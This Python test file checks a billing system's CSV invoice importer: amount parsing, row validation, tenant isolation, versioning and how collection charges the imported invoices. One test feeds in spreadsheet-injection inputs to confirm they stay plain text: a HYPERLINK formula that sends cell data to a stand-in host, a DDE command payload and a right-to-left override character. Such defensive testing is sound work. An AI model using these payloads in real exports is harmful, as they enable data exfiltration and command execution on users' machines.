"""Importing the billing system's invoices from CSV: parsing on its own, then applying it to a
real database (each database test runs on SQLite and PostgreSQL), and the imported invoices
charged by recurring collection."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event, select

from billing_bridge.collection.job import run_collection
from billing_bridge.customer_import import ImportFileError
from billing_bridge.customer_import_store import UnknownTenant
from billing_bridge.invoice_import import InvoicePlan, parse_invoice_csv
from billing_bridge.invoice_import_store import import_invoices, read_invoice_plan
from pbx.cli import _parser
from pbx.db.database import Database
from pbx.db.models import AuditEntry, CollectionAttempt, Invoice, Mandate, Tenant
from pbx.settings import load_settings
from tests.billing.collection_support import Clock, business, collections, debtor, sandbox
from tests.factories import make_customer, make_tenant

HEADER = "invoice_ref,account_ref,currency,amount,outstanding,issued_on,due_on,status"
DANA_MOBILE = "+972501234567"


def parse(*rows: str, header: str = HEADER) -> InvoicePlan:
    return parse_invoice_csv(io.StringIO("\n".join([header, *rows]) + "\n", newline=""))


def write_csv(tmp_path: Path, *rows: str, header: str = HEADER, name: str = "inv.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def problems(plan_or_report: Any) -> list[str]:
    return [str(problem) for problem in plan_or_report.problems]


class Cache:
    """Stands in for the caller-lookup cache: which numbers it was told to forget."""

    def __init__(self) -> None:
        self.forgotten: list[tuple[int, set[str]]] = []

    async def forget(self, tenant_id: int, numbers: set[str]) -> None:
        self.forgotten.append((tenant_id, set(numbers)))


@pytest.fixture
async def tenant(database: Database) -> int:
    """A business with Dana's ILS account A-1 and a JPY account J-1, and another business
    with its own account B-9 and invoice INV-1."""
    ofek = await make_tenant(database, "ofek", "IL", "ILS", ["+97235550100"], "Asia/Jerusalem")
    await make_customer(database, ofek, "C-1", "Dana", [DANA_MOBILE], [
        {"ref": "A-1", "currency": "ILS"}, {"ref": "J-1", "currency": "JPY"}])  # fmt: skip
    other = await make_tenant(database, "other", "IL", "ILS", ["+97235550199"])
    await make_customer(database, other, "O-1", "Other", ["+972509999999"], [
        {"ref": "B-9", "currency": "ILS", "invoices": [
            {"amount_minor": 700, "due_on": date(2026, 1, 1)}]}])  # fmt: skip
    return ofek


async def invoices(database: Database, tenant_id: int) -> dict[str, tuple[Any, ...]]:
    async with database.tenant_session(tenant_id) as session:
        rows = await session.execute(
            select(Invoice.invoice_ref, Invoice.amount_minor, Invoice.outstanding_minor,
                   Invoice.status, Invoice.due_on, Invoice.line_summary, Invoice.source_version)
        )  # fmt: skip
        return {ref: tuple(values) for ref, *values in rows}


async def tenant_of(database: Database, slug: str) -> int:
    async with database.system_session() as session:
        tenant_id = await session.scalar(select(Tenant.id).where(Tenant.slug == slug))
    assert tenant_id is not None
    return tenant_id


async def run(database: Database, path: Path, **options: Any) -> Any:
    return await import_invoices(database, "ofek", path, actor="cli:test", **options)


# -- parsing -----------------------------------------------------------------------------------


def test_amounts_are_read_exactly_in_each_currencys_minor_units() -> None:
    plan = parse(
        "I-1,A-1,ILS,1234.50,1234.5,2026-01-01,2026-01-31,open",
        "I-2,J-1,jpy,1200,,2026-01-01,2026-01-31,open",
        "I-3,K-1,KWD,1.125,0,2026-01-01,2026-01-31,paid",
        "I-4,A-1,ILS,0.10,,2026-01-01,2026-01-01,void",
    )

    assert plan.problems == []
    read = [(r.currency, r.amount_minor, r.outstanding_minor) for r in plan.rows.values()]
    assert read == [("ILS", 123_450, 123_450), ("JPY", 1_200, 1_200), ("KWD", 1_125, 0),
                    ("ILS", 10, 0)]  # fmt: skip
    assert plan.rows["I-1"].due_on == date(2026, 1, 31)


def test_each_bad_row_is_reported_with_its_line_and_the_others_are_kept() -> None:
    plan = parse(
        "I-1,A-1,ILS,10.00,,2026-01-01,2026-01-31,open",
        ",A-1,ILS,10.00,,2026-01-01,2026-01-31,open",
        "I-3,A-1,ILS,12.345,,2026-01-01,2026-01-31,open",
        "I-4,J-1,JPY,100.5,,2026-01-01,2026-01-31,open",
        "I-5,A-1,XXX,10,,2026-01-01,2026-01-31,open",
        "I-6,A-1,ILS,-5,,2026-01-01,2026-01-31,open",
        "I-7,A-1,ILS,10,,2026-02-30,2026-01-31,open",
        "I-8,A-1,ILS,10,,2026-02-01,2026-01-31,open",
        "I-9,A-1,ILS,10,11,2026-01-01,2026-01-31,open",
        "I-10,A-1,ILS,10,,2026-01-01,2026-01-31,overdue",
        "I-11,A-1,ILS,10,,2026-01-01",
        "I-1,A-1,ILS,10.00,,2026-01-01,2026-01-31,open",
        '"I-13","A-1","ILS","1,000.00",,2026-01-01,2026-01-31,open',
    )

    assert list(plan.rows) == ["I-1"]
    assert plan.rows_read == 13
    assert problems(plan) == [
        "line 3: invoice_ref is missing",
        "line 4: amount '12.345' has more than 2 decimal places for ILS",
        "line 5: amount '100.5' has more than 0 decimal places for JPY",
        "line 6: currency 'XXX' is not a known ISO 4217 code",
        "line 7: amount must not be negative",
        "line 8: issued_on '2026-02-30' is not a date as YYYY-MM-DD",
        "line 9: due_on is before issued_on",
        "line 10: outstanding is more than amount",
        "line 11: status 'overdue' is not one of open, paid, void",
        "line 12: has 6 cells, the header has 8",
        "line 13: invoice 'I-1' is already on line 2",
        "line 14: amount '1,000.00' is not a plain decimal amount (like 1234.50)",
    ]


def test_a_quoted_cell_over_two_lines_keeps_the_next_rows_line_numbers_true() -> None:
    plan = parse(
        '"I-1",A-1,ILS,10,,2026-01-01,2026-01-31,open,"first line\nsecond line"',
        "I-2,A-1,ILS,10,,2026-01-01,2026-01-31,late,",
        header=HEADER + ",line_summary",
    )

    assert plan.rows["I-1"].line_summary == "first line\nsecond line"
    assert problems(plan) == ["line 4: status 'late' is not one of open, paid, void"]


def test_huge_numbers_are_refused_not_wrapped_or_rounded() -> None:
    plan = parse(
        "I-1,A-1,ILS,92233720368547758.07,,2026-01-01,2026-01-31,open,",
        "I-2,A-1,ILS,92233720368547758.08,,2026-01-01,2026-01-31,open,",
        f"I-3,A-1,ILS,{'9' * 400},,2026-01-01,2026-01-31,open,",
        "I-4,A-1,ILS,1e30,,2026-01-01,2026-01-31,open,",
        "I-5,A-1,ILS,10,,2026-01-01,2026-01-31,open,99999999999999999999",
        header=HEADER + ",version",
    )

    assert plan.rows["I-1"].amount_minor == 2**63 - 1
    assert problems(plan) == [
        "line 3: amount '92233720368547758.08' is too large",
        "line 4: amount '99999999999999999999...' is too large",
        "line 5: amount '1e30' is not a plain decimal amount (like 1234.50)",
        "line 6: version '99999999999999999999' is not a whole number from 0 to 2^63-1",
    ]


def test_formulas_stay_text_and_card_numbers_in_a_summary_are_masked() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    plan = parse(
        f'"=1+2",A-1,ILS,10,,2026-01-01,2026-01-31,open,"{formula.replace(chr(34), chr(34) * 2)}"',
        "+SUM(1),A-1,ILS,10,,2026-01-01,2026-01-31,open,@cmd|' /C calc'!A0",
        "I-3,A-1,ILS,10,,2026-01-01,2026-01-31,open,card 4111 1111 1111 1111 \u202eexe.txt",
        header=HEADER + ",line_summary",
    )

    assert plan.problems == []
    assert plan.rows["=1+2"].line_summary == formula
    assert plan.rows["+SUM(1)"].line_summary == "@cmd|' /C calc'!A0"
    assert plan.rows["I-3"].line_summary == "card **** **** **** 1111 exe.txt"


def test_a_file_it_cannot_use_is_refused_whole() -> None:
    with pytest.raises(ImportFileError, match="missing column"):
        parse("I-1,A-1,ILS,10", header="invoice_ref,account_ref,currency,amount")
    with pytest.raises(ImportFileError, match=r"unknown column.*'colour'"):
        parse(header=HEADER + ",colour")
    with pytest.raises(ImportFileError, match="version or updated_at, not both"):
        parse(header=HEADER + ",version,updated_at")
    with pytest.raises(ImportFileError, match="empty"):
        parse_invoice_csv(io.StringIO(""))


def test_a_bom_is_read_past_and_bytes_not_utf8_are_named_by_line(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(("\ufeff" + HEADER + "\nI-1,A-1,ILS,10,,2026-01-01,2026-01-31,open\n")
                     .encode())  # fmt: skip
    assert list(read_invoice_plan(path).rows) == ["I-1"]

    path.write_bytes(HEADER.encode() + b"\nI-1,A-1,ILS,10,,2026-01-01,2026-01-31,open\n"
                     b"I-2,A-1,ILS,10,,2026-01-01,2026-01-31,op\xe9n\n")  # fmt: skip
    with pytest.raises(ImportFileError, match="line 3: the file is not UTF-8"):
        read_invoice_plan(path)


def test_updated_at_is_read_as_microseconds_and_needs_its_offset() -> None:
    plan = parse(
        "I-1,A-1,ILS,10,,2026-01-01,2026-01-31,open,1970-01-01T00:00:01.5Z",
        "I-2,A-1,ILS,10,,2026-01-01,2026-01-31,open,2026-01-01T10:00:00+02:00",
        "I-3,A-1,ILS,10,,2026-01-01,2026-01-31,open,2026-01-01T10:00:00",
        "I-4,A-1,ILS,10,,2026-01-01,2026-01-31,open,",
        header=HEADER + ",updated_at",
    )

    assert plan.rows["I-1"].source_version == 1_500_000
    assert plan.rows["I-2"].source_version == 1_767_254_400_000_000
    assert plan.rows["I-4"].source_version is None
    assert problems(plan) == [
        "line 4: updated_at '2026-01-01T10:00:00' is not an ISO 8601 time with its offset"
    ]


# -- against a database ------------------------------------------------------------------------


async def test_a_good_file_creates_the_invoices_audits_the_import_and_clears_the_cache(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "INV-1,A-1,ILS,300.00,,2026-01-01,2026-01-31,open,Line rental Jan",
        "INV-2,J-1,JPY,5000,2500,2026-01-01,2026-02-28,open,",
        "INV-3,A-1,ILS,50,,2025-12-01,2025-12-31,paid,",
        header=HEADER + ",line_summary",
    )
    cache = Cache()

    report = await run(database, path, on_numbers_changed=cache.forget)

    assert (report.created, report.updated, report.unchanged, report.stale) == (3, 0, 0, 0)
    assert report.problems == [] and report.cache_cleared
    assert await invoices(database, tenant) == {
        "INV-1": (30_000, 30_000, "open", date(2026, 1, 31), "Line rental Jan", None),
        "INV-2": (5_000, 2_500, "open", date(2026, 2, 28), None, None),
        "INV-3": (5_000, 0, "paid", date(2025, 12, 31), None, None),
    }
    assert cache.forgotten == [(tenant, {DANA_MOBILE})]
    async with database.tenant_session(tenant) as session:
        audit = (await session.scalars(select(AuditEntry))).all()
    assert [(a.action, a.actor_label) for a in audit] == [("invoices.imported", "cli:test")]
    assert audit[0].details["created"] == 3 and audit[0].details["file"] == "inv.csv"
    assert "invoices created: 3, updated: 0, unchanged: 0" in report.summary_lines()[1]


async def test_a_rerun_updates_what_changed_and_leaves_the_rest(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    rows = ["INV-1,A-1,ILS,300.00,,2026-01-01,2026-01-31,open",
            "INV-2,A-1,ILS,100.00,,2026-01-01,2026-01-31,open"]  # fmt: skip
    await run(database, write_csv(tmp_path, *rows))

    paid = "INV-2,A-1,ILS,100.00,0,2026-01-01,2026-01-31,paid"
    again = await run(database, write_csv(tmp_path, rows[0], paid))

    assert (again.created, again.updated, again.unchanged) == (0, 1, 1)
    stored = await invoices(database, tenant)
    assert stored["INV-2"][:3] == (10_000, 0, "paid")
    assert stored["INV-1"][:3] == (30_000, 30_000, "open")


async def test_a_row_older_than_the_stored_version_is_skipped_as_stale(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    header = HEADER + ",version"
    await run(database, write_csv(tmp_path, "INV-1,A-1,ILS,300,,2026-01-01,2026-01-31,open,5",
                                  "INV-2,A-1,ILS,100,,2026-01-01,2026-01-31,open,5",
                                  header=header))  # fmt: skip

    report = await run(database, write_csv(
        tmp_path, "INV-1,A-1,ILS,300,0,2026-01-01,2026-01-31,paid,4",
        "INV-2,A-1,ILS,100,0,2026-01-01,2026-01-31,paid,6", header=header,
    ))  # fmt: skip
    same = await run(database, write_csv(
        tmp_path, "INV-2,A-1,ILS,999,,2026-01-01,2026-01-31,open,6", header=header))  # fmt: skip
    unversioned = await run(database, write_csv(
        tmp_path, "INV-1,A-1,ILS,300,100,2026-01-01,2026-01-31,open"))  # fmt: skip

    assert (report.stale, report.updated, same.unchanged, unversioned.updated) == (1, 1, 1, 1)
    stored = await invoices(database, tenant)
    assert stored["INV-1"] == (30_000, 10_000, "open", date(2026, 1, 31), None, 5)
    assert stored["INV-2"] == (10_000, 0, "paid", date(2026, 1, 31), None, 6)


async def test_a_file_without_the_summary_column_keeps_the_stored_summaries(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    await run(database, write_csv(tmp_path, "INV-1,A-1,ILS,300,,2026-01-01,2026-01-31,open,Jan",
                                  header=HEADER + ",line_summary"))  # fmt: skip

    paid = "INV-1,A-1,ILS,300,0,2026-01-01,2026-01-31,paid"
    report = await run(database, write_csv(tmp_path, paid))

    assert report.updated == 1
    assert (await invoices(database, tenant))["INV-1"][2:5] == ("paid", date(2026, 1, 31), "Jan")


async def test_another_businesss_accounts_are_unknown_and_its_invoices_untouched(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    other = await tenant_of(database, "other")
    before = await invoices(database, other)
    path = write_csv(
        tmp_path,
        "INV-9,B-9,ILS,10,,2026-01-01,2026-01-31,open",
        "B-9-I0,A-1,ILS,10,,2026-01-01,2026-01-31,open",  # the other's invoice ref: ours now
        "INV-10,A-1,EUR,10,,2026-01-01,2026-01-31,open",
    )

    report = await run(database, path)

    assert problems(report) == [
        "line 2: account_ref 'B-9' is not an account of this business",
        "line 4: currency EUR is not account 'A-1''s (ILS)",
    ]
    assert report.created == 1 and list(await invoices(database, tenant)) == ["B-9-I0"]
    assert await invoices(database, other) == before
    assert before["B-9-I0"][:3] == (700, 700, "open")


async def test_a_dry_run_counts_and_reports_but_writes_nothing(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, "INV-1,A-1,ILS,300,,2026-01-01,2026-01-31,open",
                     "INV-2,Z-1,ILS,300,,2026-01-01,2026-01-31,open")  # fmt: skip

    report = await run(database, path, dry_run=True)

    assert report.created == 1 and len(report.problems) == 1
    assert report.summary_lines()[0] == "dry run: nothing was written"
    assert await invoices(database, tenant) == {}
    async with database.tenant_session(tenant) as session:
        assert (await session.scalars(select(AuditEntry))).all() == []


async def test_an_unknown_business_is_refused(database: Database, tmp_path: Path) -> None:
    with pytest.raises(UnknownTenant):
        await run(database, write_csv(tmp_path))


async def test_a_big_file_is_written_in_a_bounded_number_of_statements(
    database: Database, tenant: int, tmp_path: Path
) -> None:
    rows = [f"INV-{n},A-1,ILS,{n}.00,,2026-01-01,2026-01-31,open" for n in range(1, 3_001)]
    path = write_csv(tmp_path, *rows)
    statements = []
    listener = lambda *args: statements.append(args[2])  # noqa: E731
    event.listen(database.engine.sync_engine, "before_cursor_execute", listener)
    try:
        first = await run(database, path)
        rerun = await run(database, write_csv(tmp_path, *rows[:-1],
                                              rows[-1].replace("open", "void")))  # fmt: skip
    finally:
        event.remove(database.engine.sync_engine, "before_cursor_execute", listener)

    assert (first.created, rerun.unchanged, rerun.updated) == (3_000, 2_999, 1)
    assert len(statements) < 60  # per 1,000 rows: two reads and a write or two, not a row each
    assert len(await invoices(database, tenant)) == 3_000


async def test_the_command_prints_a_summary_and_exits_1_with_problems(
    database: Database, database_url: str, tenant: int, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    path = write_csv(tmp_path, "INV-1,A-1,ILS,300,,2026-01-01,2026-01-31,open",
                     "INV-2,A-1,ILS,300,,2026-01-01,2026-01-31,gone")  # fmt: skip
    args = _parser().parse_args(["import-invoices", str(path), "--tenant", "ofek"])
    settings = load_settings(environ={
        "LEDGERLINE_DATABASE_URL": database_url,
        "LEDGERLINE_SERVICE_SECRET_FILE": str(tmp_path / "secret"),
    })  # fmt: skip

    assert await args.handler(settings, args) == 1

    out = capsys.readouterr().out
    assert "invoices created: 1" in out
    assert "line 3: status 'gone' is not one of open, paid, void" in out
    assert list(await invoices(database, tenant)) == ["INV-1"]


# -- what collection does with them ------------------------------------------------------------


async def test_an_imported_overdue_invoice_is_charged_by_collection_and_a_paid_or_void_one_not(
    database: Database, tmp_path: Path
) -> None:
    provider = sandbox(Clock())
    owner = await business(database, "ofek", "+4930555010")
    await debtor(database, provider, owner, "erika", [])  # an EUR account, an active mandate
    path = write_csv(
        tmp_path,
        "INV-DUE,erika,EUR,120.50,,2027-01-01,2027-02-01,open",
        "INV-PAID,erika,EUR,80.00,0,2027-01-01,2027-02-01,paid",
        "INV-VOID,erika,EUR,60.00,,2027-01-01,2027-02-01,void",
        "INV-LATER,erika,EUR,40.00,,2027-01-01,2027-04-01,open",
    )
    assert (await run(database, path)).created == 4

    report = await run_collection(database, provider, today=date(2027, 3, 1))

    assert report.tenants["ofek"].collected.count == 1
    assert len(collections(provider)) == 1
    async with database.tenant_session(owner.tenant_id) as session:
        charged = await session.execute(
            select(Invoice.invoice_ref, CollectionAttempt.amount_minor,
                   CollectionAttempt.mandate_id)
            .join(CollectionAttempt, CollectionAttempt.invoice_id == Invoice.id)
        )  # fmt: skip
        mandate = await session.scalar(select(Mandate.id))
    assert [tuple(row) for row in charged] == [("INV-DUE", 12_050, mandate)]
